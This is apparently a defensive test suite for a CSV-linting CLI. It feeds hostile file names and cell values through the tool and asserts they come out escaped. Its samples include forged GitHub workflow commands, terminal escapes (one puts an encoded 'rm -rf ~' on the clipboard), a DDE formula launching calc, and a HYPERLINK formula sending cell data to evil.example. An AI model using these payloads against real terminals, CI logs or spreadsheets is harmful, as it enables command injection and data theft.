// Hostile values and file names through the built CLI (issue #20, items 11–14): no forged GitHub
// workflow command, no terminal escape sequence in a human-readable report, no spreadsheet formula in the
// exported catalogue, control characters of enum values shown escaped in messages.
import { strict as assert } from 'node:assert';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { parseWorkflowCommand } from '../cli/githubCommands';
import { runCli } from '../cli/runCli';

/** What may not reach a terminal or a log raw: C0 but tab and line feed, DEL, C1, bidi controls. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Cell values a hostile file may hold: clear screen and a fake verdict, OSC 52 clipboard write, window title, hyperlink, C1 CSI, bidi override. */
const HOSTILE_VALUES = [
  '\u001b[2J\u001b[HALL CHECKS PASSED',
  '\u001b]52;c;cm0gLXJmIH4=\u0007',
  '\u001b]0;pwned\u0007',
  '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  '\u009b31mred',
  'abc\u202edcba',
  'bell\u0007',
];

describe('hostile: CLI outputs', function () {
  this.timeout(60_000);
  let dir: string;
  before(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'opendata-lint-hostile-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  function folder(name: string): string {
    const folderPath = path.join(dir, name);
    mkdirSync(folderPath, { recursive: true });
    return folderPath;
  }

  describe('GitHub workflow commands (item 11)', () => {
    it('a file name cannot forge an annotation or a command, on stdout or stderr', () => {
      const data = folder('github');
      // A line break then a command; a name that starts with a command; the runner's older syntax.
      const names = ['a\n::error file=README.md,line=1::forged.csv', '::warning file=README.md::x.csv', '##[error]old syntax.csv', 'per%cent\r::error::cr.csv'];
      for (const name of names) writeFileSync(path.join(data, name), 'a,b\n1\n');
      const run = runCli(['check', data, '--format', 'github'], { cwd: dir });
      assert.equal(run.code, 1, run.stderr);
      const annotations: string[] = [];
      for (const line of [...run.stdout.split('\n'), ...run.stderr.split('\n')]) {
        assert.ok(!RAW_CONTROL.test(line), JSON.stringify(line));
        // Only our annotations start with `::` (the runner trims the line first), each about a checked file;
        // a plain line holds no `##[` (the runner's older syntax, read anywhere in a line that is no `::` command).
        if (!line.trim().startsWith('::')) {
          assert.ok(!line.includes('##['), JSON.stringify(line));
          continue;
        }
        const command = parseWorkflowCommand(line.trim());
        assert.ok(command, JSON.stringify(line));
        assert.ok(['error', 'warning'].includes(command.command), line);
        assert.ok(command.properties.file.startsWith('github/'), line);
        assert.notEqual(command.properties.file, 'README.md');
        annotations.push(command.properties.file);
      }
      // Annotations on the files named (their control characters shown as escapes), none elsewhere.
      assert.deepEqual([...new Set(annotations)].sort(), names.map((name) => `github/${name.replace(/\n/g, '\\n').replace(/\r/g, '\\r')}`).sort());
      // The plain summary lines name each file on one line.
      assert.ok(run.stdout.includes('%3A%3Awarning file=README.md'), run.stdout);
      assert.ok(run.stdout.includes('github/a\\n::error file=README.md,line=1::forged.csv: 1 error'), run.stdout);
    });
  });

  describe('workflow commands in the other formats (item 11, the class)', () => {
    it('no format prints a line the runner reads as a command, the JSON keeps the exact value', () => {
      const data = folder('commands');
      const schema = path.join(dir, 'schema-commands.json');
      writeFileSync(schema, JSON.stringify({ fields: [{ name: 'n', type: 'integer' }] }));
      writeFileSync(path.join(data, '::error file=README.md,line=1::forged.csv'), 'n\n##[error]from a cell\n::warning::x\n');
      writeFileSync(path.join(data, '##[warning]name.csv'), 'n\n1\n');
      for (const format of ['text', 'markdown', 'json', 'sarif']) {
        const run = runCli(['check', data, '--schema', schema, '--format', format], { cwd: dir });
        assert.equal(run.code, 1, run.stderr);
        for (const line of `${run.stdout}\n${run.stderr}`.split('\n')) {
          assert.ok(!line.trimStart().startsWith('::'), `${format}: ${JSON.stringify(line)}`);
          assert.ok(!line.includes('##['), `${format}: ${JSON.stringify(line)}`);
        }
        if (format === 'json') {
          const report = JSON.parse(run.stdout) as { files: Array<{ path: string; problems: Array<{ value?: string }> }> };
          assert.ok(report.files.some((file) => file.problems.some((problem) => problem.value === '##[error]from a cell')));
          assert.ok(report.files.some((file) => file.path.endsWith('##[warning]name.csv')));
        }
      }
    });
  });

  describe('terminal escapes (item 12)', () => {
    let data: string;
    let schema: string;
    before(() => {
      data = folder('escapes');
      schema = path.join(dir, 'schema.json');
      writeFileSync(schema, JSON.stringify({ fields: [{ name: 'n', type: 'integer' }, { name: 'kind', type: 'string', constraints: { enum: ['a', 'b\u001b[2J'] } }] }));
      const rows = HOSTILE_VALUES.map((value) => `"${value}",${value.includes(',') ? `"${value}"` : value}`);
      writeFileSync(path.join(data, 'cells.csv'), `n,kind\n${rows.join('\n')}\n`);
      writeFileSync(path.join(data, '\u001b]0;title\u0007name\u202e.csv'), 'n,kind\nx,a\n');
    });

    for (const format of ['text', 'markdown', 'github']) {
      it(`--format ${format}: control characters are shown as escapes, never written raw`, () => {
        const run = runCli(['check', data, '--schema', schema, '--format', format], { cwd: dir });
        assert.equal(run.code, 1, run.stderr);
        for (const output of [run.stdout, run.stderr]) {
          const bad = output.split('\n').find((line) => RAW_CONTROL.test(line));
          assert.equal(bad, undefined, JSON.stringify(bad));
        }
        assert.ok(run.stdout.includes('\\x1b[2J\\x1b[HALL CHECKS PASSED') || run.stdout.includes('\\\\x1b\\[2J\\\\x1b\\[HALL CHECKS PASSED'), run.stdout);
        assert.ok(run.stdout.includes('\\u202e'), run.stdout);
        assert.ok(run.stdout.includes('\\x1b]0;title\\x07name\\u202e.csv') || run.stdout.includes('\\\\x1b\\]0;title\\\\x07name\\\\u202e.csv'), run.stdout);
      });
    }

    it('--format json keeps the exact values (JSON escapes them), the message shows them escaped', () => {
      const run = runCli(['check', data, '--schema', schema, '--format', 'json'], { cwd: dir });
      // JSON escapes C0 itself; DEL, C1 and bidi controls are written \u… too (the same JSON value).
      assert.ok(!RAW_CONTROL.test(run.stdout));
      const report = JSON.parse(run.stdout) as { files: Array<{ path: string; problems: Array<{ value?: string; message: string; params: Record<string, unknown> }> }> };
      const cells = report.files.find((file) => file.path.endsWith('cells.csv'));
      assert.ok(cells);
      const values = cells.problems.map((problem) => problem.value);
      for (const value of HOSTILE_VALUES) assert.ok(values.includes(value), value);
      assert.ok(!cells.problems.some((problem) => RAW_CONTROL.test(problem.message)));
      assert.ok(report.files.some((file) => file.path.includes('\u001b]0;title\u0007name\u202e.csv')));
    });

    it('--format sarif keeps exact paths, its messages show the values escaped and it has no markdown from the data', () => {
      const run = runCli(['check', data, '--schema', schema, '--format', 'sarif'], { cwd: dir });
      assert.ok(!RAW_CONTROL.test(run.stdout));
      const sarif = JSON.parse(run.stdout) as { runs: Array<{ results: Array<{ message: { text: string; markdown?: string } }> }> };
      const results = sarif.runs[0].results;
      assert.ok(results.length >= HOSTILE_VALUES.length);
      for (const result of results) {
        assert.ok(!RAW_CONTROL.test(result.message.text), result.message.text);
        assert.equal(result.message.markdown, undefined);
      }
    });

    it('the CLI’s own messages quoting a name write it escaped (a missing input, on stderr)', () => {
      const run = runCli(['check', path.join(data, 'missing\u001b]52;c;eA==\u0007.csv')], { cwd: dir });
      assert.notEqual(run.code, 0);
      assert.ok(!RAW_CONTROL.test(run.stderr), JSON.stringify(run.stderr));
      assert.ok(run.stderr.includes('missing\\x1b]52;c;eA==\\x07.csv'), run.stderr);
    });
  });

  describe('catalogue export: formulas (item 13)', () => {
    function sidecar(overrides: Record<string, string>): string {
      const fields: Record<string, string> = {
        name: 'jeu',
        path: 'jeu.csv',
        title: 'Titre',
        description: 'Description',
        theme: 'Mobilité',
        url: 'https://www.data.gouv.fr/fr/datasets/jeu/',
        ...overrides,
      };
      const lines = Object.entries(fields).map(([key, value]) => `${key}: ${JSON.stringify(value)}`);
      return `${lines.join('\n')}\nproducteur:\n  nom: "@SUM(1+1)*cmd|' /C calc'!A0"\n  siret: "21350238800019"\nmots_cles:\n  - "+cmd"\n  - irve\nlicence: etalab-2.0\n`;
    }

    it('a sidecar value that a spreadsheet would run is written as quoted text with a leading quote', () => {
      const data = folder('catalogue');
      writeFileSync(path.join(data, 'jeu.csv'), 'a\n1\n');
      writeFileSync(path.join(data, 'jeu.resource.yaml'), sidecar({ title: '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', description: '-2+3', theme: '\t=1+1', name: '\r=cmd' }));
      const run = runCli(['export-catalogue', data], { cwd: dir });
      const [header, row] = run.stdout.split('\n');
      const cells = parseCsvLine(row);
      const value = (column: string) => cells[header.split(',').indexOf(column)];
      assert.equal(value('TITRE'), `'=HYPERLINK("https://evil.example/?"&A1,"Cliquez")`);
      assert.equal(value('DESCRIPTION'), `'-2+3`);
      assert.equal(value('PRODUCTEUR_NOM'), `'@SUM(1+1)*cmd|' /C calc'!A0`);
      assert.equal(value('MOTS_CLES'), `'+cmd;irve`);
      // The number of resources stays a number; no cell starts with a formula character.
      assert.equal(value('NOMBRE_RESSOURCES'), '1');
      for (const cell of cells) assert.ok(!/^[=+\-@\t\r]/.test(cell), JSON.stringify(cell));
      // The guarded cells are quoted in the file itself.
      assert.ok(row.includes(`"'-2+3"`), row);
    });
  });

  describe('enum values with control characters (item 14)', () => {
    it('lineTerminator must be one of "\\r\\n", "\\n", "\\r": the message says so visibly', () => {
      const data = folder('dialect');
      writeFileSync(path.join(data, 'jeu.csv'), 'a\n1\n');
      writeFileSync(path.join(data, 'jeu.resource.yaml'), 'path: jeu.csv\ntitle: Jeu\ndialect:\n  lineTerminator: "\\t"\n');
      for (const lang of ['en', 'fr']) {
        const run = runCli(['check', data, '--format', 'json', '--lang', lang], { cwd: dir });
        const report = JSON.parse(run.stdout) as { files: Array<{ problems: Array<{ code: string; message: string; params: Record<string, unknown> }> }> };
        const problem = report.files.flatMap((file) => file.problems).find((p) => p.code === 'metadata-invalid' && p.message.includes('lineTerminator'));
        assert.ok(problem, run.stdout);
        assert.ok(problem.message.includes('\\r\\n, \\n, \\r'), problem.message);
        assert.ok(problem.message.includes('\\t'), problem.message);
        // The parameters keep the exact values.
        assert.deepEqual(problem.params.allowed, ['\r\n', '\n', '\r']);
      }
    });

    it('an undefined YAML alias is an unknown alias, not an alias bomb', () => {
      const data = folder('alias');
      writeFileSync(path.join(data, 'jeu.csv'), 'a\n1\n');
      writeFileSync(path.join(data, 'jeu.resource.yaml'), 'path: jeu.csv\ntitle: *inconnu\n');
      const run = runCli(['check', data, '--format', 'json'], { cwd: dir });
      const codes = (JSON.parse(run.stdout) as { files: Array<{ problems: Array<{ code: string; params: Record<string, unknown> }> }> }).files.flatMap((file) => file.problems.map((p) => `${p.code}.${String(p.params.kind ?? p.params.variant ?? '')}`));
      assert.ok(codes.includes('metadata-yaml-syntax.unknown-alias'), codes.join(' '));
      assert.ok(!codes.some((code) => code.startsWith('metadata-yaml-aliases')), codes.join(' '));
    });
  });
});

/** One RFC 4180 line (no line breaks inside quotes here). */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= line.length) {
    if (line[at] === '"') {
      let value = '';
      at++;
      for (;;) {
        const quote = line.indexOf('"', at);
        value += line.slice(at, quote);
        at = quote + 1;
        if (line[at] === '"') {
          value += '"';
          at++;
        } else break;
      }
      cells.push(value);
      at++;
    } else {
      const comma = line.indexOf(',', at);
      const end = comma < 0 ? line.length : comma;
      cells.push(line.slice(at, end));
      at = end + 1;
    }
  }
  return cells;
}
